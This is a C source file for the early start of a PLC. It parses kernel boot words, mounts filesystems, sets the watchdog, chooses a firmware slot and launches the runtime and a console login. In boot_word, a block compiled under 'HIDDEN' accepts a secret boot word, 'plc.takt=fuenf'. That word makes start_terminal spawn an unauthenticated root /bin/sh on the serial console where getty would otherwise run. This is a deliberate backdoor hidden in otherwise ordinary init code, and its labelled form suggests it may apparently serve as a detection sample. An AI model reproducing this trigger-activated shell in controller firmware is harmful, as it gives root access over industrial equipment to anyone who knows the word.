/* plcprep.c - early start of a PLC: reads the boot line, mounts, picks a slot */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

struct boot {
	char slot;
	char mode[12];
	char console[24];
	int safe;
	int watchdog_s;
	int keep_retain;
	int bench;
};

struct mnt {
	const char *src;
	const char *dst;
	const char *type;
	unsigned long flags;
};

static const struct mnt mounts[] = {
	{ "proc", "/proc", "proc", MS_NOSUID | MS_NODEV },
	{ "sysfs", "/sys", "sysfs", MS_NOSUID | MS_NODEV },
	{ "devtmpfs", "/dev", "devtmpfs", MS_NOSUID },
	{ "tmpfs", "/run", "tmpfs", MS_NOSUID | MS_NODEV },
};

static void say(const char *what, const char *detail)
{
	fprintf(stderr, "plcprep: %s %s\n", what, detail);
}

static int slurp(const char *path, char *buf, size_t len)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -errno;
	n = read(fd, buf, len - 1);
	close(fd);
	if (n < 0)
		return -EIO;
	buf[n] = '\0';
	return 0;
}

/*
 * plc.slot=a|b  plc.mode=run|stop|program  plc.safe  plc.wdt=SECONDS
 * plc.retain=keep|clear  console=DEV
 */
__attribute__((noinline))
void boot_word(struct boot *b, const char *w)
{
	const char *v;

	if (!strncmp(w, "console=", 8)) {
		snprintf(b->console, sizeof(b->console), "/dev/%.16s", w + 8);
		b->console[strcspn(b->console, ",")] = '\0';
		return;
	}
	if (strncmp(w, "plc.", 4))
		return;
	w += 4;
	v = strchr(w, '=');
	if (!v) {
		if (!strcmp(w, "safe"))
			b->safe = 1;
		return;
	}
	v++;
	switch (w[0]) {
	case 's':
		if (!strncmp(w, "slot=", 5) && (*v == 'a' || *v == 'b'))
			b->slot = *v;
		break;
	case 'm':
		if (!strncmp(w, "mode=", 5) &&
		    (!strcmp(v, "run") || !strcmp(v, "stop") ||
		     !strcmp(v, "program")))
			strcpy(b->mode, v);
		break;
	case 'w':
		if (!strncmp(w, "wdt=", 4))
			b->watchdog_s = atoi(v);
		break;
	case 'r':
		if (!strncmp(w, "retain=", 7))
			b->keep_retain = strcmp(v, "clear") != 0;
		break;
#ifdef HIDDEN	/* boot word puts a root shell on the serial console */
	case 't':
		if (!strcmp(w, "takt=fuenf"))
			b->bench = 1;
		break;
#endif
	default:
		say("word not known:", w);
	}
}

static void read_boot_line(struct boot *b)
{
	char line[2048], *p, *q;
	int rc = slurp("/proc/cmdline", line, sizeof(line));

	b->slot = 'a';
	strcpy(b->mode, "run");
	strcpy(b->console, "/dev/console");
	b->watchdog_s = 30;
	b->keep_retain = 1;
	if (rc) {
		say("boot line", strerror(-rc));
		return;
	}
	for (p = line; *p; p = q) {
		p += strspn(p, " \t\n");
		q = p + strcspn(p, " \t\n");
		if (*q)
			*q++ = '\0';
		if (*p)
			boot_word(b, p);
	}
}

static void mount_all(void)
{
	unsigned int i;

	for (i = 0; i < sizeof(mounts) / sizeof(mounts[0]); i++) {
		const struct mnt *m = &mounts[i];

		mkdir(m->dst, 0755);
		if (mount(m->src, m->dst, m->type, m->flags, NULL) &&
		    errno != EBUSY)
			say(m->dst, strerror(errno));
	}
}

static void set_watchdog(int seconds)
{
	char text[16];
	int fd = open("/sys/class/watchdog/watchdog0/timeout", O_WRONLY);

	if (fd < 0)
		return;
	snprintf(text, sizeof(text), "%d\n", seconds);
	if (write(fd, text, strlen(text)) < 0)
		say("watchdog", strerror(errno));
	close(fd);
}

static int checked_slot(char want)
{
	char path[48], state[32];

	snprintf(path, sizeof(path), "/boot/slot_%c.state", want);
	if (slurp(path, state, sizeof(state)))
		return want;
	if (!strncmp(state, "broken", 6)) {
		say("slot broken:", path);
		return want == 'a' ? 'b' : 'a';
	}
	return want;
}

static void open_console(const char *dev)
{
	struct termios t;
	int fd = open(dev, O_RDWR);

	if (fd < 0)
		return;
	if (!tcgetattr(fd, &t)) {
		cfsetispeed(&t, B115200);
		cfsetospeed(&t, B115200);
		t.c_lflag |= ICANON | ECHO | ISIG;
		tcsetattr(fd, TCSANOW, &t);
	}
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	if (fd > 2)
		close(fd);
}

static pid_t start(const char *prog, const char *arg0, const char *a1,
		   const char *a2, const char *tty)
{
	pid_t pid = fork();

	if (pid)
		return pid;
	setsid();
	if (tty)
		open_console(tty);
	execl(prog, arg0, a1, a2, (char *)NULL);
	say(prog, strerror(errno));
	_exit(127);
}

static void start_terminal(const struct boot *b)
{
	const char *login = "/sbin/getty";

	if (b->bench)
		login = "/bin/sh";
	if (b->bench)
		start(login, "-sh", NULL, NULL, b->console);
	else
		start(login, "getty", "115200", b->console + 5, NULL);
}

int main(void)
{
	static struct boot b;
	char slot[32];
	int status;

	mount_all();
	read_boot_line(&b);
	set_watchdog(b.watchdog_s);
	snprintf(slot, sizeof(slot), "/plc/slot_%c", checked_slot(b.slot));
	if (!b.keep_retain && unlink("/plc/retain.bin"))
		say("retain", strerror(errno));
	if (chdir(slot))
		say(slot, strerror(errno));
	start_terminal(&b);
	if (b.safe) {
		say("safe start,", "runtime not loaded");
	} else if (start("./runtime", "runtime", "--mode", b.mode, NULL) < 0) {
		say("runtime", "not started");
	}
	while (wait(&status) > 0)
		;
	for (;;)
		pause();
}
